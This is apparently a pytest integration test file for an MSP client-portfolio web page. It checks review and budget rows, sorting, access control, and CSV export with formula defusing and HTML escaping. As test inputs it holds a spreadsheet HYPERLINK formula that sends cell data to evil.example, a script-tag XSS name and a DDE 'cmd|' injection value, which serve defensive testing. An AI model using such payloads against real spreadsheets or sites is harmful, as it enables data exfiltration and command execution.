"""The portfolio on real databases and over real HTTP: every active client with its last and
next review, its score trend (the scores `scored()` gives, from reviews assessed by evidence
and answers) and its approved budget for the coming year, in a number of queries that does not
grow with the clients; the page sorted on the server, its CSV with formulas defused, hostile
names escaped, a client's contact refused and a stranger sent to sign in."""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from statistics import mean

import httpx
import pytest
from sqlalchemy import Engine, event, update

from deploy.webapp.portfolio_page import sorted_rows
from notifications import links
from states import directory
from states.calendar.opening import start_review
from states.lifecycle.decisions import load_review
from states.plans.fiscal import FiscalQuarter
from states.plans.initiatives import Cost, Draft, Move, add_initiative, move_initiative
from states.read import views
from states.read.portfolio import COLUMNS, TREND, ClientRow, portfolio, portfolio_csv
from states.read.scorecards import assessed_reviews
from states.staging.intake import import_files
from states.staging.record import assess
from states.standards.answering import answer_items
from states.standards.answers import AnswerSource, ItemState, review_questionnaire
from states.standards.schema import Answer
from states.standards.scoring import scored
from states.store.models import Client, utcnow
from states.templates.schema import Template
from tests.conftest import UowFactory
from tests.integration.conftest import serving
from tests.team import walk
from tests.web_session import signed_in

DEMO = Path(__file__).resolve().parents[2] / "deploy" / "demo_evidence"
VERA, SAM, OLGA = "vera@msp.example", "sam@msp.example", "olga@msp.example"
CARL = "carl@client.example"  # a client's contact
BSRR, QBR, TRS = "Client bsrr", "Client qbr", "Client trs"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
SCRIPT = '<script>alert("x")</script> & Sons'


def first_answers(state: ItemState) -> str:
    return "not_met" if state.item.required else "partial"


def second_answers(state: ItemState) -> str:
    return "partial" if state.item.category == "identity_access" else "met"


def assessed_review(
    uow: UowFactory, catalog: dict[str, Template], exports: str, answering: Callable[..., str]
) -> int:
    """A review of Client bsrr assessed by the demo exports and people's answers, closed."""
    meeting = utcnow() + timedelta(weeks=8)
    review_id = start_review(uow(), BSRR, catalog, None, f"{meeting:%Y-%m-%dT10:00}")
    walk(uow, review_id, "staging")
    import_files(uow(), review_id, sorted((DEMO / exports).iterdir()), SAM)
    assess(uow(), review_id)
    items = review_questionnaire(uow(), review_id).items
    wanted = {
        s.key: (Answer(answering(s)), "") for s in items if s.source is not AnswerSource.EVIDENCE
    }
    answer_items(uow(), review_id, wanted, SAM)
    walk(uow, review_id, "closed")
    return review_id


def plan(uow: UowFactory, client: str, costs: list[tuple[str, Cost]]) -> None:
    """Initiatives for `client`, each approved unless its status says proposed."""
    for status, cost in costs:
        draft = Draft(f"{cost.kind} {cost.amount}", costs=(cost,))
        made = add_initiative(uow(), client, draft, VERA)
        if status == "approved":
            move_initiative(uow(), made, Move.APPROVE, VERA)


def coming_year(uow: UowFactory, today: date) -> None:
    """Client bsrr approves 1,000.10 now and 100.05 a month for two quarters (1,600.40 in its
    coming year), and more later or only proposed; Client qbr approves 500."""
    now_q = FiscalQuarter.of(today, 1)
    plan(uow, BSRR, [
        ("approved", Cost("one_time", Decimal("1000.10"), now_q)),
        ("approved", Cost("recurring", Decimal("100.05"), now_q, now_q.next(1))),
        ("approved", Cost("one_time", Decimal("5000"), now_q.next(4))),  # after the year
        ("proposed", Cost("one_time", Decimal("7000"), now_q)),
    ])  # fmt: skip
    plan(uow, QBR, [("approved", Cost("one_time", Decimal("500"), now_q.next(3)))])


def only_active(engine: Engine, names: list[str]) -> None:
    """Every other client made inactive (no command does that yet)."""
    with engine.begin() as conn:
        conn.execute(update(Client).where(Client.name.not_in(names)).values(active=False))


def by_name(rows: list[ClientRow]) -> dict[str, ClientRow]:
    return {row.name: row for row in rows}


def scorecard_average(uow: UowFactory, review_id: int) -> int:
    """The review's overall score as `scored()` gives it, one review at a time."""
    with uow() as work:
        found = scored(work.session, load_review(work.session, review_id))
    scores = [c.score for c in found.categories.values() if c.score is not None]
    return round(mean(scores))


def test_each_client_with_its_reviews_trend_and_approved_budget(
    uow: UowFactory, engine: Engine, catalog: dict[str, Template]
) -> None:
    first = assessed_review(uow, catalog, "q1", first_answers)
    second = assessed_review(uow, catalog, "q2", second_answers)
    start_review(uow(), BSRR, catalog, "ad-hoc")
    soon = utcnow() + timedelta(weeks=3)
    third = start_review(uow(), BSRR, catalog, None, f"{soon:%Y-%m-%dT10:00}")
    meeting = utcnow() + timedelta(weeks=5)
    upcoming = start_review(uow(), QBR, catalog, None, f"{meeting:%Y-%m-%dT10:00}")
    now = utcnow()
    coming_year(uow, now.date())
    only_active(engine, [BSRR, QBR, TRS])
    opens = now.date() + timedelta(days=40)
    with engine.begin() as conn:
        conn.execute(update(Client).where(Client.name == TRS).values(next_review_on=opens))

    rows = portfolio(uow(), now, "EUR")

    assert [r.name for r in rows] == [BSRR, QBR, TRS]
    bsrr, qbr, trs = rows
    with uow() as work:
        assessed = assessed_reviews(work.session, bsrr.id)
    assert assessed[-2:] == [first, second]
    expected = tuple(scorecard_average(uow, r) for r in assessed[-TREND:])
    assert bsrr.scores == expected
    assert bsrr.scores[-2] != bsrr.scores[-1]
    assert bsrr.change == bsrr.scores[-1] - bsrr.scores[-2]
    assert bsrr.last is not None
    assert (bsrr.last.id, bsrr.last.status) == (second, "closed")
    assert bsrr.last.name == views.review_view(uow(), second).name
    assert bsrr.last.at is not None
    # the open reviews still to meet: the dated one first, the ad-hoc one without a date after
    assert bsrr.next is not None
    assert (bsrr.next.id, bsrr.next.status, bsrr.open_reviews) == (third, "needed", 2)
    assert bsrr.next.at is not None
    assert bsrr.next.at.date() == soon.date()
    assert bsrr.approved == Decimal("1600.40")
    assert bsrr.currency == "EUR"

    assert qbr.next is not None
    assert (qbr.next.id, qbr.next.status, qbr.next.at) == (upcoming, "needed", qbr.next.at)
    assert qbr.next.day is not None
    assert abs((qbr.next.day - meeting.date()).days) <= 1  # its day in the client's zone
    assert (qbr.last, qbr.scores, qbr.change) == (None, (), None)
    assert qbr.approved == Decimal("500.00")

    assert (trs.next, trs.opens_on, trs.open_reviews) == (None, opens, 0)
    assert trs.approved == Decimal("0.00")


def test_its_queries_do_not_grow_with_the_clients(
    uow: UowFactory, engine: Engine, catalog: dict[str, Template]
) -> None:
    statements: list[str] = []
    event.listen(engine, "before_cursor_execute", lambda *a: statements.append(a[2]))
    now = utcnow()
    portfolio(uow(), now, "USD")
    few = len(statements)
    for n in range(12):
        name = f"Client {n:02d}"
        directory.add_client(uow(), name, "quarterly", "qbr", "Europe/Berlin", catalog)
        start_review(uow(), name, catalog)
        coming = FiscalQuarter.of(now.date(), 1)
        plan(uow, name, [("approved", Cost("one_time", Decimal("10"), coming))])
    statements.clear()

    rows = portfolio(uow(), now, "USD")

    assert len(rows) == 7 + 12
    assert len(statements) == few
    assert all(r.next is not None for r in rows if r.name.startswith("Client 0"))


# --- the page over HTTP -----------------------------------------------------------------------


@dataclass
class App:
    """The web app on a staffed database with a portfolio worth sorting."""

    url: str
    uow: UowFactory
    key: bytes

    def browser(self, email: str | None) -> httpx.Client:
        """A browser signed in as `email` (a stranger's for None)."""
        return signed_in(self.uow, self.key, self.url, email)


@pytest.fixture
def app(
    uow: UowFactory, engine: Engine, catalog: dict[str, Template], tmp_path: Path
) -> Iterator[App]:
    for name in (FORMULA, SCRIPT):
        directory.add_client(uow(), name, "quarterly", "qbr", "Europe/Berlin", catalog)
    start_review(uow(), SCRIPT, catalog)
    coming_year(uow, utcnow().date())
    url = engine.url.render_as_string(hide_password=False)
    with serving(tmp_path / "home", url, uow, currency="EUR") as (settings, _):
        yield App(settings.page_url, uow, links.load_key(settings.home, None))


def client_names(page: httpx.Response) -> list[str]:
    """The clients of the table, in its order."""
    found = re.findall(r'<th scope="row" class="name">(.*?)</th>', page.text, re.S)
    return [html.unescape(re.sub(r"<[^>]+>", "", cell)) for cell in found]


def sorted_header(page: httpx.Response) -> list[tuple[str, str]]:
    """(aria-sort, label) of the headers that carry aria-sort."""
    found = re.findall(r'<th scope="col"[^>]*aria-sort="(\w+)"><a href="[^"]*">([^<]+)', page.text)
    return [(sort, label.strip()) for sort, label in found]


ALL = sorted(
    [FORMULA, SCRIPT, "Client ad-hoc", BSRR, "Client btr", "Client monthly-checkin", QBR,
     "Client trs", "Client xbr-sop"], key=str.casefold,
)  # fmt: skip


def test_the_page_sorts_on_the_server_by_the_column_asked(app: App) -> None:
    with app.browser(VERA) as vera:
        plain = vera.get("/portfolio")
        assert plain.status_code == 200
        assert client_names(plain) == ALL
        assert sorted_header(plain) == [("ascending", "Client")]
        assert "aria-current=page>Portfolio" in plain.text.replace('"', "")
        assert "EUR 2,100.40" in plain.text  # the approved budgets together
        # the sorted column's link turns its order round; the others start with their own
        assert 'href="/portfolio?sort=client&amp;order=desc"' in plain.text
        assert 'href="/portfolio?sort=budget&amp;order=desc"' in plain.text

        richest = vera.get("/portfolio", params={"sort": "budget", "order": "desc"})
        assert client_names(richest)[:2] == [BSRR, QBR]
        assert client_names(richest)[2:] == [n for n in ALL if n not in (BSRR, QBR)]
        assert sorted_header(richest) == [("descending", "Approved budget")]
        assert "EUR 1,600.40" in richest.text

        backwards = vera.get("/portfolio", params={"sort": "client", "order": "desc"})
        assert client_names(backwards) == ALL[::-1]

        meeting = vera.get("/portfolio", params={"sort": "next", "order": "asc"})
        assert client_names(meeting)[0] == SCRIPT  # the only one with a review open

        for odd in ({"sort": "nonsense"}, {"sort": "client", "order": "sideways"}, {"sort": ""}):
            shown = vera.get("/portfolio", params=odd)
            assert shown.status_code == 200
            assert client_names(shown) == ALL
            assert sorted_header(shown) == [("ascending", "Client")]


def test_names_link_to_their_reviews_and_hostile_names_are_escaped(app: App) -> None:
    with app.browser(VERA) as vera:
        page = vera.get("/portfolio")
    assert "<script>" not in page.text
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; Sons" in page.text
    (review,) = [r for r in views.list_reviews(app.uow()) if r.client == SCRIPT]
    name_cell = f'<th scope="row" class="name"><a href="/reviews/{review.id}">&lt;script&gt;'
    assert name_cell in page.text
    assert f'<a href="/reviews/{review.id}">{review.name}</a>' in page.text


def test_the_csv_has_the_same_order_and_defuses_formulas(app: App) -> None:
    today = utcnow().date()
    with app.browser(OLGA) as olga:
        got = olga.get("/portfolio.csv", params={"sort": "budget", "order": "desc"})
    assert got.status_code == 200
    assert got.headers["content-type"] == "text/csv; charset=utf-8"
    # the server's today is the MSP's (UTC here); a test run across midnight may see either
    assert got.headers["content-disposition"] in {
        f'attachment; filename="xbr-portfolio-{day.isoformat()}.csv"'
        for day in (today, today + timedelta(days=1))
    }
    lines = list(csv.reader(io.StringIO(got.text)))
    assert lines[0] == COLUMNS
    rows = [dict(zip(COLUMNS, line, strict=True)) for line in lines[1:]]
    assert [r["client"] for r in rows][:2] == [BSRR, QBR]
    assert len(rows) == len(ALL)
    assert {r["client"] for r in rows} == (set(ALL) - {FORMULA}) | {"'" + FORMULA}
    bsrr = next(r for r in rows if r["client"] == BSRR)
    assert (bsrr["approved_budget"], bsrr["currency"]) == ("1600.40", "EUR")
    hostile = next(r for r in rows if r["client"] == SCRIPT)
    assert hostile["next_phase"] == "needed"
    assert hostile["next_review"].startswith("script-alert-x-script-sons-")
    for line in lines[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_portfolio_csv_quotes_every_formula_start() -> None:
    row = ClientRow(
        id=1, name="-2+3+cmd|' /C calc'!A0", template="@SUM(A1)", cadence="\tquarterly",
        last=None, next=None, open_reviews=0, opens_on=None, scores=(40, 35), change=-5,
        approved=Decimal("0.00"), currency="USD", quarters="+FY2027-Q1",
    )  # fmt: skip
    (line,) = list(csv.reader(io.StringIO(portfolio_csv([row]))))[1:]
    cells = dict(zip(COLUMNS, line, strict=True))
    assert cells["client"] == "'-2+3+cmd|' /C calc'!A0"
    assert cells["template"] == "'@SUM(A1)"
    assert cells["cadence"] == "'\tquarterly"
    assert cells["quarters"] == "'+FY2027-Q1"
    assert (cells["scores"], cells["change"]) == ("40 35", "-5")  # a number stays a number


def test_a_client_contact_is_refused_and_a_stranger_sent_to_sign_in(app: App) -> None:
    with app.browser(CARL) as carl:
        for path in ("/portfolio", "/portfolio.csv"):
            refused = carl.get(path)
            assert refused.status_code == 403
            assert "for the MSP&#39;s staff" in refused.text
            assert "Client bsrr" not in refused.text
    with app.browser(None) as stranger:
        for path, back in (("/portfolio?sort=budget", "%2Fportfolio%3Fsort%3Dbudget"),
                           ("/portfolio.csv", "%2Fportfolio.csv")):  # fmt: skip
            sent = stranger.get(path)
            assert sent.status_code == 303
            assert sent.headers["location"] == f"/?next={back}"


def test_the_page_of_an_installation_without_clients(
    uow: UowFactory, engine: Engine, tmp_path: Path
) -> None:
    only_active(engine, [])
    url = engine.url.render_as_string(hide_password=False)
    with serving(tmp_path / "home", url, uow) as (settings, _):
        app = App(settings.page_url, uow, links.load_key(settings.home, None))
        with app.browser(VERA) as vera:
            page = vera.get("/portfolio")
            got = vera.get("/portfolio.csv")
    assert page.status_code == 200
    assert "No active clients yet" in page.text
    assert list(csv.reader(io.StringIO(got.text))) == [COLUMNS]


def test_rows_without_a_value_come_last_either_way() -> None:
    def row(name: str, change: int | None) -> ClientRow:
        return ClientRow(
            id=len(name), name=name, template="qbr", cadence="quarterly", last=None, next=None,
            open_reviews=0, opens_on=None, scores=(), change=change,
            approved=Decimal("0.00"), currency="USD", quarters="",
        )  # fmt: skip

    rows = [row("b", None), row("a", 3), row("c", -2), row("d", 3)]
    up, column, order = sorted_rows(rows, "change", "asc")
    assert ([r.name for r in up], column.key, order) == (["c", "a", "d", "b"], "change", "asc")
    down, _, order = sorted_rows(rows, "change", "")  # the column's own first order
    assert ([r.name for r in down], order) == (["a", "d", "c", "b"], "desc")
